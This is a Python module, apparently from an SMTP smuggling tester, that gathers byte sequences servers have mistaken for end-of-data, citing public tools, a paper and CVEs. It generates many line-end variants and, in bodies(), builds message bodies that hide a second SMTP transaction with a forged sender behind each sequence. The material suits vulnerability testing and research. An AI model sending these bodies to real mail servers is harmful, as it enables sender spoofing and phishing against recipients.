"""Ends of data that are none: what somebody's server took for `<CR><LF>.<CR><LF>` (SMTP smuggling).

A sender's server that passes such octets on, and a receiving one that stops at them, let one message carry a
second one with any sender (VU#302671, SEC Consult 2023). The octets are facts from the public lists; the
grid behind them is every pair of line ends around a dot, with what else servers were seen to skip.
"""

import itertools

END_OF_DATA = b"\r\n.\r\n"

# github.com/The-Login/SMTP-Smuggling-Tools: the lists for both directions, over its history.
SCANNER = [
    b"\n.\n", b"\n.\r", b"\r.\n", b"\r.\r", b"\n.\r\n", b"\r.\r\n", b"\r\n.\n", b"\r\n.\r", b"\r\n\x00.\r\n",
    b"\r\n.\x00\r\n", b"\r\n.\r\r\n", b"\r\r\n.\r\r\n",
]  # fmt: skip

# github.com/hannob/smtpsmug and github.com/suuhm/smtp_smuggling_checker.py, what they have besides.
CHECKERS = [b"\r\n\x00.\r", b"\r\n\x00.\n", b"\n\n.\r\n", b"\r\n."]

# Wang et al., USENIX Security 2025, table 1, what it has besides.
PAPER = [b"\r\x00\n.\r\n", b"\r\n.\r\x00\n"]

# CVE-2023-51764 (Postfix), -51765 (Sendmail), -51766 (Exim), -51747 (James), CVE-2024-27305 (aiosmtpd).
ADVISORIES = [b"\n.\r\n", b"\n.\n", b"\r\n.\n", b"\r.\r\n", b"\r.\r"]

# Line ends of other worlds: NEL, LS, PS, vertical tab, form feed, overlong UTF-8, and dots that are none.
STRANGE = [
    b"\xc2\x85.\xc2\x85", b"\xe2\x80\xa8.\xe2\x80\xa8", b"\xe2\x80\xa9.\xe2\x80\xa9", b"\x85.\x85",
    b"\x0b.\x0b", b"\x0c.\x0c", b"\r\x0b\n.\r\n", b"\xc0\x8d\xc0\x8a.\xc0\x8d\xc0\x8a",
    b"\x00.\r\n", b"\x00\n.\r\n", b"\x00\r\n.\x00\r\n", b"\x0b\x0c.\r\n", b"\r\n\n.\r\n",
    b"\r\n\xef\xbc\x8e\r\n", b"\r\n\xe3\x80\x82\r\n", b"\r\n\xc0\xae\r\n", b"\r\n..\r\n", b"\r\n...\r\n",
]  # fmt: skip

_LINE_ENDS = [b"\n", b"\r", b"\r\n", b"\n\r", b"\n\n", b"\r\r", b"\r\r\n"]
_FILLINGS = [b"\x00", b" ", b"\t", b"\x0b", b"\x7f", b"\xe2\x80\x8b"]


def _grid() -> list[bytes]:
    around = [before + b"." + behind for before, behind in itertools.product(_LINE_ENDS, repeat=2)]
    for before, behind in itertools.product([b"\n", b"\r", b"\r\n"], repeat=2):
        for filling in _FILLINGS:
            around += [before + filling + b"." + behind, before + b"." + filling + behind]
    return around


def _distinct(*lists: list[bytes]) -> list[bytes]:
    every = dict.fromkeys(itertools.chain(*lists))
    return [sequence for sequence in every if END_OF_DATA not in sequence]


SEQUENCES = _distinct(SCANNER, CHECKERS, PAPER, ADVISORIES, STRANGE, _grid())

# In the lists as well, but these are the end: with something before it, or with something behind it that is a
# command (and not a good one).
ENDS = [
    (b"\x00\r\n", b""),
    (b"\r\r\n", b""),
    (b"\n\r\n", b""),
    (b"\r\n", b"\x00"),
    (b"\r\n", b"\n"),
    (b"\r\n", b"\r"),
]
"""The octets before the dot's line, and those behind it."""

SMUGGLED = (
    b"MAIL FROM:<evil@example.org>\r\nRCPT TO:<victim@example.com>\r\nDATA\r\n"
    b"From: evil@example.org\r\n\r\nsmuggled\r\n"
)

# Before a sequence: at the beginning of the body, behind text, behind a whole line.
OPENINGS = [b"", b"Subject: x\r\n\r\nfirst", b"Subject: x\r\n\r\nfirst\r\n"]


def bodies(sequence: bytes) -> list[bytes]:
    """Bodies that carry a second transaction behind the sequence and hold no end of data."""
    made = [opening + sequence + SMUGGLED for opening in OPENINGS]
    return [body for body in made if END_OF_DATA not in b"\r\n" + body]
